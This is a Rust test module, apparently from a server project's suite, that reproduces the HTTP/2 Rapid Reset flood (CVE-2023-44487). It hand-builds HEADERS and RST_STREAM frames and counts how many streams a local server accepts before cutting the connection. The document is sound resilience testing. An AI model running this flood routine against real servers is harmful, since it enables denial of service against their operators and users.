//! Streams opened and reset at once on one HTTP/2 connection (CVE-2023-44487): how many until it is cut.
//! Frames are written by hand, since no honest client does this.

use super::client::{Clients, Hand};
use crate::edge_table::host;
use anyhow::Result;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const MOST: usize = 3_000;
/// What a stream has to be heard in before the next.
const APART: Duration = Duration::from_micros(200);
const GOAWAY: u8 = 7;

/// How a client of HTTP/2 begins (RFC 9113 section 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// GET over https to a path and a host that are written out (RFC 7541 section 6.2.2).
pub fn request_fields(name: &str) -> Vec<u8> {
    let length = u8::try_from(name.len()).unwrap_or(u8::MAX);
    [[0x82, 0x87, 0x04, 10].as_slice(), b"/api/bench", &[0x01, length], name.as_bytes()].concat()
}

/// Streams until the connection was cut, or none if it was not.
pub async fn until_cut(port: u16, clients: &Clients) -> Result<Option<usize>> {
    let name = host(0);
    let (mut reading, mut writing) = tokio::io::split(clients.shake(Hand::Two, port, &name).await?);
    let heard = tokio::spawn(async move {
        let mut head = [0; 9];
        while reading.read_exact(&mut head).await.is_ok() && head[3] != GOAWAY {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut rest = vec![0; usize::try_from(length).unwrap_or(0)];
            if reading.read_exact(&mut rest).await.is_err() {
                return;
            }
        }
    });
    // Settings that change nothing.
    writing.write_all(&[PREFACE, b"\0\0\0\x04\0\0\0\0\0"].concat()).await?;
    let fields = request_fields(&name);
    for number in 0..MOST {
        let stream = (u32::try_from(number)? * 2 + 1).to_be_bytes();
        let length = u8::try_from(fields.len())?;
        let frames = [
            &[0, 0, length, 1, 5],
            stream.as_slice(),
            &fields,
            &[0, 0, 4, 3, 0],
            &stream,
            &[0, 0, 0, 8],
        ]
        .concat();
        if writing.write_all(&frames).await.is_err() || writing.flush().await.is_err() {
            return Ok(Some(number));
        }
        tokio::time::sleep(APART).await;
        if heard.is_finished() {
            return Ok(Some(number + 1));
        }
    }
    Ok(None)
}
